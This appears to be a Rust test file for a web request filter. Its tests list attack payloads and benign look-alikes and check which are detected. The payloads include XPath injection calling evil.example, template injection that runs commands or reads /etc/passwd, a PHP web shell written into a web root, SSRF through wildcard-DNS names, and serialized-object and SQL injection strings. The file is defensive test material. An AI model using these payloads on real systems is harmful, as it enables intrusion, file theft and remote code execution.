        "Read our CORS guide: Access-Control-Allow-Origin explained",
    ];
    assert_placed(false, EVERY_PLACE, &benign);
    // A part header of a multipart batch in a body (legit-dev: Google Drive's /batch;
    // in a query or cookie 12001 reads any header after a line break).
    assert_placed(
        false,
        &[
            Place::Form,
            Place::Json,
            Place::JsonNested,
            Place::Multipart,
        ],
        &["x\r\nContent-Type: application/json; charset=UTF-8"],
    );
}

/// Session 12: XPath break-outs through an axis step in a union
/// (`'] | /child::node() | a['`) and XPath 2.0 functions that fetch a URL
/// (`' or doc-available('http://…') or '`). Before: passed (rule 1021).
#[test]
fn xpath_axes_and_url_functions() {
    let attacks = [
        "'] | /child::node() | a['",
        "')] | /descendant-or-self::password | a[('",
        "' or doc-available('http://evil.example/x') or '",
        "x' and unparsed-text('file:///etc/passwd') or 'a'='b",
        "' or collection('http://evil.example/') or '",
    ];
    let benign = [
        "child::node() in XPath selects children",
        "Is doc-available('x') supported? or not",
        "see ancestor::div in the docs",
    ];
    assert_class(EVERY_PLACE, &attacks, &benign);
}

/// Session 12: template probes of engines the first round covered thinly —
/// Jinja's `{% print %}`, a string literal indexed by a joined name
/// (`''['__cla'+'ss__']`), Velocity directives on a variable (`#foreach($i …)`,
/// `#evaluate($x)`), Ruby's file and process classes inside ERB tags
/// (`<%= Dir.entries('/') %>`), and JSON text setting `constructor.prototype`.
/// Before: passed (rules 9002, 9007, 3015).
#[test]
fn template_statements_of_more_engines_and_prototype_in_json_text() {
    let attacks = [
        "{% print(7*7) %}",
        "{% print config %}",
        "{{ ''['__cla'+'ss__'] }}",
        "{{ \"\"[\"__class__\"] }}",
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
        "#evaluate($payload)",
        "<%= Dir.entries('/') %>",
        "<%= File.read('/etc/passwd') %>",
        "<%= IO.popen('id').read %>",
        "<% eval(params[:x]) %>",
        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
        r#"{'constructor': {'prototype': {'polluted': 1}}}"#,
    ];
    assert_placed(true, &every_place_but(Place::Cookie), &attacks);
    let benign = [
        "{{ 'abc'[0] }}",
        "#if you want, call me",
        "#foreach item in the list",
        "<%= @product.title %>",
        "<%= link_to 'Files', files_path %>",
        "<%= file.name %> (<%= dir.size %> files)",
        r#"{"constructor": {"name": "Acme"}, "prototype": "ready"}"#,
        "Print the file with raw blocks {% endraw %}",
    ];
    assert_placed(false, &every_place_but(Place::Cookie), &benign);
}

/// Session 12, classes read from a value's start (a URL, an expression, a
/// path is a whole value: not looked for after 20 KiB of text), each
/// `(attacks, benign neighbours)`:
/// - SSRF through a wildcard-DNS name that resolves to the internal IPv4 it
///   spells (`127.0.0.1.nip.io`, `10-0-0-5.sslip.io`; rule 8004);
/// - the misses session 11 left: a MongoDB `$where` body sent without
///   `$where` (a comparison of a property of `this`, rule 10003) and Razor's
///   implicit expressions into the `System` namespaces that run or read
///   (`@System.Diagnostics.Process.Start("cmd.exe")`, rule 9002);
/// - platform traffic: a search naming a Windows folder then words is not a
///   path into it (rule 4007 fired on `C:\Program Files (x86) missing`).
///
/// Before (657f57a): the attacks of the first two passed, the third's
/// benign values were blocked.
#[test]
fn whole_value_classes_of_session_12() {
    let classes: [(&[&str], &[&str]); 3] = [
        (
            &[
                "http://127.0.0.1.nip.io/",
                "http://10-0-0-5.sslip.io:8080/admin",
                "https://app.192.168.1.10.nip.io/internal",
                "http://169-254-169-254.sslip.io/latest/",
                "gopher://172.16.0.3.xip.io:6379/_INFO",
                // More labels, dashes, the hex form, sslip's IPv6 loopback (review).
                "http://customer1.app.10.0.0.1.nip.io/",
                "http://my-app-127-0-0-1.nip.io/",
                "http://app-7f000001.nip.io/",
                "http://--1.sslip.io/",
            ],
            &[
                "https://203.0.113.7.nip.io/demo",
                "https://my-app-203-0-113-7.nip.io/",
                "https://app-cb007107.nip.io/",
                "https://nip.io/",
                "http://my-app.sslip.io/",
                "https://v10.0.3.releases.example.com/notes",
                "Use 127.0.0.1.nip.io for local testing",
            ],
        ),
        (
            &[
                // $where bodies: a comparison on a property of the document.
                "this.password.length > 0",
                "this.isAdmin == true",
                "this['role'] === 'admin'",
                "(this.age >= 18)",
                "this.a == 1 || 1 == 1",
                // Razor: an implicit expression calling into System.
                "@System.Diagnostics.Process.Start(\"cmd.exe\")",
                "@(System.IO.File.ReadAllText(\"/etc/passwd\"))",
                "@System.Environment.GetEnvironmentVariable(\"PATH\")",
            ],
            &[
                // Prose about `this`, an e-mail at a system.io domain, a Razor namespace named.
                "this.value > 0 means positive",
                "Is this.password > 8 chars?",
                "this.name",
                "write to ops@system.io",
                "mail admin@system.io.uk (or call)",
                "@System.Text.Json is fast",
            ],
        ),
        (
            &[
                "C:\\Windows\\win.ini",
                "c:/program files/app/config.ini",
                "C:\\Program Files (x86)\\app\\web.config",
                "c:\\inetpub\\wwwroot\\web.config",
                "C:\\Windows",
                "C:\\Windows.\\Panther\\Unattend.xml",
                "C:\\Windows::$INDEX_ALLOCATION\\win.ini",
            ],
            &[
                "C:\\Program Files (x86) missing",
                "C:\\Windows 11 upgrade help",
                "c:\\xampp control panel wont start",
            ],
        ),
    ];
    for (attacks, benign) in classes {
        assert_class(&every_place_but(Place::AfterFiller), attacks, benign);
    }
}

/// Session 12, second batch: a system binary path written with a glob after
/// a separator (`;/bin/s?? -c id`), a command writing into a web root
/// (`;echo x > /var/www/html/x.php`), a PHP object serialized in base64, a
/// loopback URL with the trailing dot of an absolute DNS name
/// (`http://localhost./`), Jinja's `{% with %}`, Freemarker's special
/// variables (`${.data_model}`), Python introspection inside `${…}` (Mako's
/// `${"a".join(dir())}`). Before: each passed (rules 3003, 6015, 8002, 9002).
#[test]
fn globbed_binaries_redirects_php_base64_trailing_dots_and_template_variables() {
    let attacks = [
        ";/bin/s?? -c id",
        "|/usr/bin/c?t /etc/passwd",
        ";echo test > /var/www/html/x.txt",
        ";/bin/ca* /etc/passwd",
        "&& printf '<?php system($_GET[0]);' >> /var/www/html/s.php",
        "Tzo4OiJzdGRDbGFzcyI6MTp7czo0OiJmaWxlIjtzOjExOiIvZXRjL3Bhc3N3ZCI7fQ==",
        "http://localhost./",
        "http://127.0.0.1.:8080/admin",
        "{% with a = request['application'] %}{{ a }}{% endwith %}",
        "${.data_model}",
        "<#list .vars?keys as k>${k}</#list>",
        "${\"a\".join(dir())}",
        "${getattr(self, 'module')}",
    ];
    let benign = [
        "Files live in /usr/bin/* on most systems",
        // A resource path with a query string after a separator (Foswiki, AEM), not a glob.
        "see;/bin/login?origurl=/x",
        "echo the answer > the question",
        "dGhpcyBpcyBqdXN0IHRleHQgb2Ygbm8gaW1wb3J0YW5jZQ==",
        "http://localhost.example.com/",
        "Price: ${.99} off",
        "Use ${dir} and ${vars} in the config",
    ];
    assert_class(&every_place_but(Place::AfterFiller), &attacks, &benign);
    // The command-to-redirect span has no bound (it had one of 200 bytes).
    let long = format!(";echo {} > /tmp/x", "y".repeat(300));
    assert_placed(
        true,
        &[Place::Query, Place::Form, Place::Json],
        &[long.as_str()],
    );
}

/// Session 12: serialized streams written only with letters and digits — a
/// Java stream in hex (`aced0005` then a type code), a Java stream or a
/// Python pickle in base64 without `+`, `/` or padding. Such a value decodes
/// to no text, and extraction counted such a word as a plain token, so no
/// rule read it (found by the session 12 round; fixed in
/// `extract::plain_token`: a word of 16 bytes or more that mixes cases, or
/// that is all hex digits and starts with a rule's hex-stream magic
/// `aced0005` in any case, is read; a 32-hex session id stays plain). The
/// same streams with a `+` or `=` were always read. Rules 7002, 3037.
#[test]
fn serialized_streams_of_letters_and_digits_only() {
    let attacks = [
        "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b1",
        "ACED00057372001A6A6176612E7574696C2E48617368536574BA44859596B8B734",
        // After a `-`, which a rule's `\b` takes as a word start.
        "0-aced00057372001a6a6176612e7574696c2e48617368536574",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg",
    ];
    let benign = [
        "aced00051f2c9e8d7b6a5c4d3e2f10a9b8c7d6e5",
        "rO0ABcdefghij",
        "gASVHQAAAAB",
        "3f9a1c2b7d8e4f60a1b2c3d4e5f60718",
    ];
    assert_class(&every_place_but(Place::AfterFiller), &attacks, &benign);
}

/// Session 12: a negated comparison word after a logic word
/// (`1 AND 2 NOT BETWEEN 0 AND 1`, `1 AND 1 NOT IN (2)`, sqlmap's `between`
/// tamper and its negations): the operand and its negated comparison end as
/// the plain comparison does (`1 AND 2 BETWEEN 0 AND 3` was blocked, the NOT
/// form passed; rule 1001).
#[test]
fn negated_comparison_words_after_a_logic_word() {
    let attacks = [
        "1 AND 2 NOT BETWEEN 0 AND 1",
        "1 AND 1 NOT IN (2)",
        "1' AND 1 NOT LIKE 2-- -",
        "x' OR 5 NOT BETWEEN 1 AND 4-- -",
        "1) AND 7 NOT IN (8,9) AND (1=1",
    ];
    let benign = [
        "Monday and Tuesday not in stock",
        "size 8 and not in the sale",
        "Rock and roll not like jazz",
        "between 2 and 3 not included",
    ];
    // A number context is the value's start (not after 20 KiB of text).
    assert_class(&every_place_but(Place::AfterFiller), &attacks, &benign);
}
